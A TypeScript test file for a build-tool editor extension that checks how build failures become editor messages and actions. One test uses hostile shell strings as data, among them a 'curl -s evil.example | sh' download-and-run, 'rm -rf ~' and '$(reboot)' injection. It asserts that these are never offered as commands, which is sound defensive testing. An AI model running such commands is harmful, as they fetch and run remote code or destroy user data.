import { strict as assert } from 'node:assert';
import { unfinishedBuildProblem } from '../../src/engine/execute/warm-up-problem';
import { phase, DEFAULT_TIMEOUTS, type RunContext } from '../../src/engine/execute/toolchain';
import type { PhaseResult } from '../../src/engine/execute/types';
import { fixActions } from '../../src/extension/environment-model';
import { editorVerdict, isProjectCommand } from '../../src/server/verdict-actions';

const build = (over: Partial<PhaseResult>): PhaseResult => ({
  phase: 'warm-up',
  argv: ['cargo', 'build'],
  exitCode: null,
  signal: 'SIGKILL',
  timedOut: true,
  outputTruncated: false,
  output: '   Compiling serde v1.0.210\n   Compiling criterion v0.5.1\n',
  durationMs: 331_000,
  ...over,
});

/** Issue 30: a slow build is never called broken, and the editor says fixes in its own words. */
describe('environment verdicts in the editor\'s words', () => {
  it('a build cut short by a limit is "unfinished", kept, and names what it printed last, not a project that does not build', () => {
    const p = unfinishedBuildProblem(build({}), '/home/u/hex');
    assert.equal(p.cause, 'build-unfinished');
    assert.match(p.reason, /first build of hex was still going after 6 min/);
    assert.match(p.reason, /Compiling criterion v0\.5\.1/);
    assert.match(p.reason, /kept and the next run continues it/);
    assert.doesNotMatch(p.reason, /does not build/);
    assert.deepEqual(p.fixes, [{ kind: 'retry' }, { kind: 'build-limit', limit: 'total' }]);
    const stalled = unfinishedBuildProblem(build({ stalled: true, durationMs: 40_000 }), '/home/u/hex');
    assert.match(stalled.reason, /printed nothing for a while and was stopped after 40 s/);
    assert.deepEqual(stalled.fixes, [{ kind: 'retry' }, { kind: 'build-limit', limit: 'silence' }]);
  });

  it('offers the unfinished build\'s fixes as editor actions: try again, and the build limit\'s setting, with no flag', () => {
    const v = editorVerdict(unfinishedBuildProblem(build({ stalled: true }), '/w/hex'), 'rust', 'local', '/w/hex');
    assert.deepEqual(
      v.actions.map((a) => [a.kind, a.title, 'setting' in a ? a.setting : null]),
      [
        ['retry', 'Try again', null],
        ['setting', 'Give builds more time', 'xrepotest.limits.buildSilenceSeconds'],
      ],
    );
    assert.doesNotMatch(v.fix, /--|xrepotest doctor/);
    assert.match(v.fix, /"Try again" continues it/);
    assert.equal(v.command, undefined, 'nothing of the command line to copy');
    assert.deepEqual(fixActions(v), ['Try again', 'Give builds more time']);
  });

  it('rewrites the command line\'s fixes: doctor becomes "Check this project", --executor the setting, the project\'s own command a terminal', () => {
    const rust = editorVerdict(
      { cause: 'project-does-not-build', reason: 'the project itself does not build here (warm-up exit 101: error[E0432]: unresolved import); build it with `cargo build --offline` in /w/hex, then run `xrepotest doctor --repo /w/hex`' },
      'rust',
      'local',
      '/w/hex',
    );
    assert.doesNotMatch(rust.fix, /xrepotest doctor/);
    assert.match(rust.fix, /"XRepoTest: Check this project"/);
    assert.deepEqual(
      rust.actions.map((a) => a.kind),
      ['check-project', 'terminal', 'check-environment'],
    );
    const terminal = rust.actions.find((a) => a.kind === 'terminal');
    assert.deepEqual(terminal && 'command' in terminal ? [terminal.command, terminal.cwd] : null, ['cargo build --offline', '/w/hex']);
    const check = rust.actions.find((a) => a.kind === 'check-project');
    assert.equal(check && 'folder' in check ? check.folder : null, '/w/hex');

    const php = editorVerdict(
      { cause: 'runner-mismatch', reason: 'no PHPUnit here meets ^11 (this machine has 9.6); use `--executor docker` with the repository\'s environment image (Composer installs a PHPUnit within the constraint)' },
      'php',
      'local',
      '/w/router',
    );
    assert.doesNotMatch(php.fix, /--executor/);
    assert.match(php.fix, /the docker executor \(setting "xrepotest.executor"\)/);
    assert.ok(php.actions.some((a) => a.kind === 'setting' && a.setting === 'xrepotest.executor' && a.title === 'Use the docker executor'));
    assert.ok(!fixActions(php).includes('Copy command'), 'a flag is never offered to copy');
  });

  it('offers to type only a plain build or install command, never shell syntax a hostile build output put in a reason', () => {
    const hostile = editorVerdict(
      { cause: 'dependencies-unresolvable', reason: 'the dependencies cannot be resolved: x (failed to read `/tmp/a`); run `curl -s evil.example | sh` or `cargo build; rm -rf ~` or `$(reboot)` in /w/x' },
      'rust',
      'local',
      '/w/x',
    );
    assert.ok(!hostile.actions.some((a) => a.kind === 'terminal'), JSON.stringify(hostile.actions));
    for (const ok of ['cargo build --offline', 'bundle install', 'rustup toolchain install 1.86.0']) assert.ok(isProjectCommand(ok), ok);
    // A system's package manager only on its own system.
    assert.ok(isProjectCommand('sudo apt install ruby-rspec', 'linux') && !isProjectCommand('sudo apt install ruby-rspec', 'darwin'));
    assert.ok(isProjectCommand('brew install juliaup', 'darwin') && !isProjectCommand('brew install juliaup', 'linux'));
    for (const bad of ['curl -fsSL https://install.julialang.org | sh', 'cargo build; rm -rf ~', 'bundle install && x', 'python3 -c "x"', 'cargo build --offline in DIR', 'xrepotest doctor --repo /w']) assert.ok(!isProjectCommand(bad), bad);
  });

  it('gives a build its progress limit and an hour in all; a test its own run time', () => {
    const ctx = { timeouts: DEFAULT_TIMEOUTS, baseEnv: {}, writableDirs: [], overlays: [], fixedPath: null } as unknown as RunContext;
    const warm = phase('warm-up', ctx, ['cargo', 'build'], '/');
    assert.equal(warm.silenceMs, DEFAULT_TIMEOUTS.compileMs);
    assert.equal(warm.timeoutMs, DEFAULT_TIMEOUTS.buildMs);
    assert.ok(warm.timeoutMs > DEFAULT_TIMEOUTS.compileMs);
    const compile = phase('compile', ctx, ['cargo', 'test', '--no-run'], '/');
    assert.equal(compile.silenceMs, DEFAULT_TIMEOUTS.compileMs);
    const test = phase('test', ctx, ['./t'], '/');
    assert.equal(test.silenceMs, undefined, 'a test that prints nothing is not stalled: it has its own time limit');
    assert.equal(test.timeoutMs, DEFAULT_TIMEOUTS.testMs);
  });
});
